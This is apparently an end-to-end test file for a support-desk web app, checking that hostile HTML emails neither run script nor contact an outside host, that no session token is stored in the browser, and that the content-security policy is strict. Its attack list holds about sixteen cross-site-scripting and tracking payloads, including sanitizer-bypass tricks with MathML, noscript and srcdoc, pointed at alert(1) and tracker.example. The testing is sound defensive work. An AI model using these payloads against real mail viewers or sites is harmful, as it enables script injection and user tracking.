import type { Browser } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { startTestCloud, type TestCloud } from '../support/local-cloud.ts';
import { launchBrowser } from './support/browser.ts';
import { visit } from './support/visit.ts';

let cloud: TestCloud;
let browser: Browser;
beforeAll(async () => {
  [cloud, browser] = await Promise.all([startTestCloud(), launchBrowser()]);
});
afterAll(async () => {
  await Promise.all([browser.close(), cloud.stop()]);
});

/** Each would call `alert`, and asks a stranger's server for something. */
const attacks = [
  { name: 'a script element', html: '<script>alert(1)</script>' },
  { name: 'an image that fails', html: '<img src=x onerror="alert(1)">' },
  { name: 'an image of a tracker', html: '<img src="https://tracker.example/open.gif?id=1">' },
  { name: 'an SVG that loads', html: '<svg onload="alert(1)"><script>alert(1)</script></svg>' },
  { name: 'a link that is a script', html: '<a href="javascript:alert(1)" id="l">click</a>' },
  { name: 'a link split by control characters', html: '<a href="java&#10;script:alert(1)">click</a>' },
  {
    name: 'a frame with a document of its own',
    html: '<iframe srcdoc="<script>parent.alert(1)</script>"></iframe>',
  },
  {
    name: 'a form to a stranger',
    html: '<form action="https://tracker.example/"><input name=p autofocus onfocus=alert(1)></form>',
  },
  {
    name: 'styles that fetch',
    html: '<style>@import url(https://tracker.example/a.css);body{background:url(https://tracker.example/b)}</style>',
  },
  { name: 'an attribute that breaks out', html: '<p title="</iframe><script>alert(1)</script>">x</p>' },
  { name: 'an unclosed comment', html: '<!--><script>alert(1)</script>-->' },
  {
    name: 'MathML that becomes HTML',
    html: '<math><mtext><table><mglyph><style><img src onerror=alert(1)></style></mglyph></table></mtext></math>',
  },
  {
    name: 'a template that is parsed twice',
    html: '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
  },
  {
    name: 'an object',
    html: '<object data="data:text/html,<script>alert(1)</script>"></object><embed src="javascript:alert(1)">',
  },
  { name: 'a refresh', html: '<meta http-equiv="refresh" content="0;url=https://tracker.example/">' },
  { name: 'a base', html: '<base href="https://tracker.example/"><a href="x">x</a>' },
] as const;

const mailOf = (subject: string, html: string): string =>
  [
    'From: Ana García <ana@acme.example>',
    'To: support@guardia.example',
    `Subject: ${subject}`,
    `Message-ID: <${crypto.randomUUID()}@acme.example>`,
    'MIME-Version: 1.0',
    'Content-Type: text/html; charset=utf-8',
    '',
    `<p>Mail</p>${html}`,
  ].join('\r\n');

describe('a hostile mail', () => {
  it.each(attacks)('executes nothing and calls nobody: $name', async ({ name, html }) => {
    await cloud.sendMail({
      from: 'ana@acme.example',
      raw: mailOf(`Mail with ${name} ${html.slice(0, 40)}`, html),
    });
    await cloud.settle();
    const { body } = await cloud.call<{ items: { caseId: string; subject: string }[] }>(
      'agent@guardia.example',
      'GET /cases?limit=100',
    );
    const caseId = body.items.find(({ subject }) => subject.includes(name))?.caseId ?? '';

    await using desk = await visit(browser, {
      url: cloud.httpUrl,
      as: 'agent@guardia.example',
      path: `/cases/${caseId}`,
    });
    const { page } = desk;
    const alarms: string[] = [];
    page.on('dialog', async (dialog) => {
      alarms.push(`dialog ${dialog.message()}`);
      await dialog.dismiss();
    });
    page.on('request', (request) => {
      if (new URL(request.url()).hostname === 'tracker.example') alarms.push(request.url());
    });
    await page.getByRole('button', { name: 'Correo original' }).first().click();
    await page.getByRole('dialog').getByRole('tablist').waitFor();
    await page.waitForLoadState('networkidle');
    for (const frame of page.frames())
      await frame
        .locator('a')
        .first()
        .click({ timeout: 300 })
        .catch(() => {});
    expect(alarms).toEqual([]);
    expect(new URL(page.url()).pathname).toBe(`/cases/${caseId}`);
  });
});

it('keeps no token where a script or the next user of the machine could find it', async () => {
  await using signedIn = await visit(browser, {
    url: cloud.httpUrl,
    as: 'agent@guardia.example',
    path: '/queue',
  });
  await signedIn.page.getByRole('heading', { name: 'Cola' }).waitFor();
  const kept = await signedIn.page.evaluate<string>(
    'JSON.stringify([{ ...localStorage }, { ...sessionStorage }, document.cookie])',
  );
  expect(kept).not.toMatch(/eyJ/);
  expect(kept).toContain('agent@guardia.example');
});

it('is served under a policy without unsafe-inline or unsafe-eval', async () => {
  const policy = (await fetch(cloud.httpUrl)).headers.get('content-security-policy');
  expect(policy).toMatch(/script-src 'self'(;|$)/);
  expect(policy).toMatch(/style-src 'self'(;|$)/);
  expect(policy).not.toContain('unsafe');
});
